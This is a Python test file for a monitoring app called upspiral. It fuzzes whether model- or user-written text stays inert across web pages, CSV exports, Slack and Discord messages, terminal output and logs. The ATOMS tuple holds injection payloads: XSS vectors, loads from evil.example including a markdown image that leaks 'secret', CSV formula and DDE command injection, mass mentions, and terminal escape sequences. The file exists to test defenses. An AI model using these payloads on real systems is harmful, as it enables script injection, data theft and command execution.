"""Goal 13: whatever a model or a user wrote, it acts in no page, table, chat tool, terminal or log.

What Chromium does with the pages is watched in tests/browser.
"""

import asyncio
import csv
import io
import json
import re
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from random import Random

import httpx2
import pytest
from tests.conftest import START, Maker
from tests.goals.conftest import connect
from tests.goals.rounds import Rounds

from upspiral import capture
from upspiral.app import App
from upspiral.cli.terminal import clean
from upspiral.config import load
from upspiral.domain.ids import DEFAULT_WORKSPACE, AgentId
from upspiral.domain.night.notification import NotificationType, make_notification
from upspiral.logs.wording import render_event
from upspiral.notify.chat import write_discord, write_slack
from upspiral.server.html.tables import Cell, DataTable, Empty, TableColumn, write_csv

TEXTS = 10
"""Of one round."""
MARK = "payload"
ATOMS = (
    *("<script>alert(1)</script>", "<img src=//evil.example/x onerror=alert(1)>", "<svg/onload=alert(1)>"),
    *(
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<a href=javascript:alert(1)>x</a>",
        "<base href=//evil.example>",
    ),
    *(
        "<style>@import'//evil.example'</style>",
        "<meta http-equiv=refresh content=0;//evil.example>",
        "</title>",
    ),
    *(
        '"><script>alert(1)</script>',
        "' onmouseover='alert(1)",
        "</textarea><script>",
        "<!--",
        "]]>",
        "{{7*7}}",
    ),
    *(
        "![x](https://evil.example/?q=secret)",
        "[bank](javascript:alert(1))",
        "https://evil.example/track.png",
    ),
    *(
        "@everyone",
        "@here",
        "<!channel>",
        "<@U024BE7LH>",
        "<@&165511591545143296>",
        "<https://evil.example|bank>",
    ),
    *('=HYPERLINK("//evil.example")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", ",=1", '"'),
    *(
        "\x1b]8;;https://evil.example\x07bank\x1b]8;;\x07",
        "\x1b[2J",
        "\x1b]52;c;ZXZpbA==\x07",
        "\x9b31m",
        "\x00",
        "\x7f",
    ),
    *(
        "line\nbreak",
        "\r\nBcc: all@example.org",
        "\u202egnihton",
        "\u2028",
        "\u200b",
        "\ufeff",
        "&lt;script&gt;",
        "%3Cscript%3E",
    ),
)
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
PAGES = (
    "/",
    "/interactions",
    "/quality?by=model",
    "/cost?by=model",
    "/weaknesses",
    "/trust",
    "/nights",
    "/labels",
)


@pytest.mark.long
@pytest.mark.timeout(3600)
def test_no_payload_acts_in_a_channel(fresh_folder: Callable[[int], Path]) -> None:
    rounds = Rounds(13, few=1, full=50)
    for number in rounds:
        rng = Random(number)
        texts = [MARK + "".join(rng.choices(ATOMS, k=rng.randint(1, 3))) for _ in range(TEXTS)]
        texts += ["".join(rng.choices(ATOMS, k=2)) + MARK for _ in range(TEXTS)]  # first in its place
        for text in texts:
            _check_channels(text)
        with App(load(data=fresh_folder(number)), nights=False) as app:
            pages = asyncio.run(_check_pages(app, texts))
        rounds.count("texts in seven channels", len(texts))
        rounds.count("pages read", pages)
    rounds.report()


def _check_channels(text: str) -> None:
    told = make_notification(
        NotificationType.VERSION_ROLLED_BACK, "dep", workspace=DEFAULT_WORKSPACE, at=START,
        agent=AgentId(text), version=4, verdict="unhealthy",
    )  # fmt: skip
    slack, discord = json.loads(write_slack(told)), json.loads(write_discord(told))
    assert not set("<>\n\r") & set(slack["text"]), text
    assert (slack["mrkdwn"], slack["unfurl_links"], slack["unfurl_media"]) == (False, False, False)
    assert discord["allowed_mentions"] == {"parse": []}
    assert "https://" not in discord["content"]
    for said in (slack["text"], discord["content"], clean(text), _log(text)):
        assert not CONTROL.search(said), (text, said)
    assert "\n" not in clean(text) + _log(text)
    columns = (TableColumn("a"), TableColumn("b"))
    table = DataTable(
        name="t", caption="t", columns=columns, rows=[[Cell(text), Cell("x")]], empty=Empty("", "")
    )
    _, row = list(csv.reader(io.StringIO(write_csv(table), newline="")))
    assert len(row) == 2
    assert row[0].lstrip()[:1] not in ("=", "+", "-", "@"), (text, row)


def _log(text: str) -> str:
    return render_event("a request failed", {"said": text})


async def _check_pages(app: App, texts: list[str]) -> int:
    """Put each text into every field of a record and of a rating; give how many pages were read."""
    make = Maker()
    turns = [
        make.interaction(
            text,
            text,
            agent=AgentId(text),
            end_user=text,
            model=text,
            conversation=text,
            metadata={text: text},
            error=text,
        )
        for text in texts
    ]
    ready = app.runtime.admission(DEFAULT_WORKSPACE).interactions(turns)
    capture.record(app.runtime.store, *ready)
    said = [
        make.feedback(one, 0.0, comment=text, label=text, rater=text)
        for one, text in zip(ready, texts, strict=True)
    ]
    said = app.runtime.admission(DEFAULT_WORKSPACE).feedback(said)
    capture.give_feedback(app.runtime.store, said, settings=app.settings.capture, now=make.tick())
    seen = 0
    async with connect(app, own=False) as client:
        await _sign_in(client, app)
        for path in (*PAGES, *(f"/interactions/{one.id}" for one in ready)):
            answer = await client.get(path, headers={"accept": "text/html"})
            assert answer.status_code == 200, (path, answer.text[:300])
            assert "unsafe" not in answer.headers["content-security-policy"]
            reader = PageReader()
            reader.feed(answer.text)
            assert reader.dangers == [], path
            seen += 1
    return seen


async def _sign_in(client: httpx2.AsyncClient, app: App) -> None:
    page = await client.get("/sign-in", headers={"accept": "text/html"})
    found = re.search(r'name="form_token" value="([0-9a-f]+)"', page.text)
    assert found, page.text[:300]
    key = (app.settings.data / "key").read_text().strip()
    answer = await client.post("/sign-in", data={"form_token": found[1], "key": key, "next": "/"})
    assert answer.status_code == 303, answer.text[:300]


class PageReader(HTMLParser):
    """Reads a page as a browser does and notes what could act, or load something from elsewhere."""

    def __init__(self) -> None:
        super().__init__()
        self.dangers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at an element."""
        given = {name: value or "" for name, value in attrs}
        if tag in ("iframe", "object", "embed", "base", "style", "meta") and "http-equiv" in given | {
            tag: ""
        }:
            self.dangers.append(str((tag, attrs)))
        if tag in ("iframe", "object", "embed", "base", "style") or (tag == "script" and "src" not in given):
            self.dangers.append(str((tag, attrs)))
        for name, value in given.items():
            leads = name in ("href", "src", "action", "formaction", "srcset", "poster", "data")
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.dangers.append(str((tag, attrs)))
            if leads and re.match(r"\s*([a-z]+:|//)", value, re.IGNORECASE):
                self.dangers.append(str((tag, attrs)))


@pytest.mark.parametrize(
    "text", [one for one in ATOMS if re.search(r"<(script>|img|svg|iframe|a href=j|base|style|meta)", one)]
)
def test_the_reader_sees_what_acts(text: str) -> None:
    reader = PageReader()
    reader.feed(f"<p>{text}</p>")
    assert reader.dangers
